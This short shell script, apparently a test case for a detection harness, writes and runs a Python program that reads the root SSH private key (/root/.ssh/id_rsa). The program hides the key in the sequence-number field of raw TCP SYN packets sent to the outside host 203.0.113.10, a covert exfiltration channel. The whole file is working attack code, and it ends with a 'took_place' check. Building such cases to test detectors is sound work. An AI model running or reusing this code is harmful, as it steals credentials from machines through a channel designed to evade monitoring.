#!/bin/sh
. /opt/case/case.sh

cat >/tmp/isn.py <<'END'
import random, socket, struct
def sum16(b):
    b += b"\0" * (len(b) % 2); s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
me, to = socket.inet_aton("10.77.0.2"), socket.inet_aton("203.0.113.10")
data = open("/root/.ssh/id_rsa", "rb").read() * 8
for at in range(0, len(data), 4):
    seq = data[at:at + 4].ljust(4, b"\0")
    head = struct.pack(">HH4sIBBHHH", random.randrange(1024, 65535), 80, seq, 0, 5 << 4, 2, 8192, 0, 0)
    check = sum16(me + to + struct.pack(">BBH", 0, 6, len(head)) + head)
    s.sendto(head[:16] + struct.pack(">H", check) + head[18:], ("203.0.113.10", 0))
END
python3 /tmp/isn.py
took_place
